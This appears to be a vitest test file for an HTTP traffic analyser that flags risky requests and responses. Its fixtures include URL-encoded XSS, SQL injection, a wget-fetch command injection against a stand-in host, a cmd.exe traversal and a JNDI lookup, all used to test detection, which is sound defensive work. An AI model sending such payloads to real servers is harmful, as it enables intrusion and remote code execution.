import { describe, expect, test } from 'vitest';
import { http } from '../../../src/app/http.ts';
import { driveStream, type Sent } from '../../support/app/drive.ts';

const AGENT = 'User-Agent: Mozilla/5.0 (X11)';
const asked = (target: string, ...fields: string[]) =>
  `GET ${target} HTTP/1.1\r\n${[...fields].map((field) => `${field}\r\n`).join('')}\r\n`;
const risks = (...sent: Sent[]) => [...driveStream(http, sent).facts.risks].sort();
const ofRequest = (target: string, ...fields: string[]) => risks([0, asked(target, ...fields)]);
const ofResponse = (fields: string, body = '') =>
  risks([0, asked('/', AGENT)], [1, `HTTP/1.1 200 OK\r\n${fields}Content-Length: ${body.length}\r\n\r\n${body}`]);

describe('risks of requests', () => {
  test.each([
    ['no agent', asked('/')],
    ['short', asked('/', 'User-Agent: **')],
    ['code', asked('/', 'User-Agent: <?php x ?>')],
    ['scrambled', asked('/', 'User-Agent: aBCdEfghIJklmnO')],
    ['test', asked('/', 'User-Agent: test')],
  ])('http_suspicious_user_agent: %s', (_, bytes) => {
    expect(risks([0, bytes])).toContain('http_suspicious_user_agent');
  });

  test('crawlers', () => {
    expect(ofRequest('/', 'User-Agent: Mozilla/5.0 (compatible; Googlebot/2.1; +http://www.google.com/bot.html)')).toEqual([
      'http_crawler_bot',
    ]);
  });

  test.each([
    ['/?q=%3Cscript%3Ealert(1)%3C/script%3E', 'url_possible_xss'],
    ['/?id=1%27%20OR%20%271%27=%271', 'url_possible_sql_injection'],
    ['/?id=1+UNION+ALL+SELECT+password+FROM+users(1)', 'url_possible_sql_injection'],
    ['/cgi?cmd=;wget%20http://x/y.sh', 'url_possible_rce_injection'],
    ['/shell?ls', 'url_possible_rce_injection'],
    ['/msadc/..%255c../..%255c../winnt/system32/cmd.exe', 'http_suspicious_url'],
    ['/.env', 'possible_exploit'],
    ['/?x=$%7Bjndi:ldap://x%7D', 'possible_exploit'],
  ])('%s is %s', (target, risk) => {
    expect(ofRequest(target, AGENT)).toEqual([risk]);
  });

  test.each(['/.well-known/acme-challenge/x', '/a?b=c&d=%20e', "/it's", '/union/select', '/a/../b', '/search?q=select+a+sofa+from+a+shop'])(
    '%s is harmless',
    (target) => {
      expect(ofRequest(target, AGENT)).toEqual([]);
    },
  );

  test('hosts, credentials, odd fields', () => {
    expect(ofRequest('/', AGENT, 'Host: 192.0.2.1:8080')).toEqual(['numeric_ip_host']);
    expect(ofRequest('/', AGENT, 'Host: 192.0.2.1.example')).toEqual([]);
    expect(ofRequest('/', AGENT, 'Host: %s')).toEqual(['invalid_characters', 'possible_exploit']);
    expect(ofRequest('/', AGENT, 'Host: xn--55qx5d.example')).toEqual(['punycode_idn']);
    expect(ofRequest('/', AGENT, 'Authorization: Basic QWxhZGRpbjpvcGVuIHNlc2FtZQ==')).toEqual(['cleartext_credentials']);
    expect(ofRequest('/', AGENT, 'Authorization: Bearer x')).toEqual([]);
    expect(ofRequest('/', AGENT, 'Osversion: 7')).toEqual(['http_suspicious_header']);
  });

  test('no secret is kept', () => {
    const driven = driveStream(http, [[0, asked('/', AGENT, 'Authorization: Basic QWxhZGRpbjpvcGVu')]]);
    expect(JSON.stringify([driven.facts, driven.transactions])).not.toContain('QWxh');
  });
});

describe('risks of responses', () => {
  test('servers', () => {
    expect(ofResponse('Server: nginx/1.6.3\r\n')).toEqual(['http_obsolete_server']);
    expect(ofResponse('Server: Apache/2.4.1 (Unix)\r\n')).toEqual([]);
    expect(ofResponse('Server: \xc2\xaf\\_(x)_/\xc2\xaf\r\n')).toEqual(['http_suspicious_header']);
  });

  test('what is transferred', () => {
    expect(ofResponse('Content-Type: application/x-msdownload\r\n')).toEqual(['binary_application_transfer']);
    expect(ofResponse('Content-Disposition: attachment; filename="setup.exe"\r\n')).toEqual([
      'binary_application_transfer',
      'binary_data_transfer',
    ]);
    expect(ofResponse('Content-Type: image/png\r\n', '\x7fELF\x02\x01\x01')).toEqual(['binary_application_transfer']);
    expect(ofResponse('Content-Type: application/octet-stream\r\n', 'abcd')).toEqual(['binary_data_transfer']);
    expect(ofResponse('Content-Type: text/html\r\n', '\x01\x02\x03\x04\x05')).toEqual(['http_suspicious_content']);
    expect(ofResponse('Content-Type: text/html\r\nContent-Encoding: br\r\n', '\x01\x02\x03\x04\x05')).toEqual([]);
    expect(ofResponse('Content-Type: text/html; charset=utf-8\r\n', '\xef\xbb\xbf<html>')).toEqual([]);
    expect(ofResponse('Content-Type: text/html\r\n', 'MZ is a car plate')).toEqual([]);
  });
});
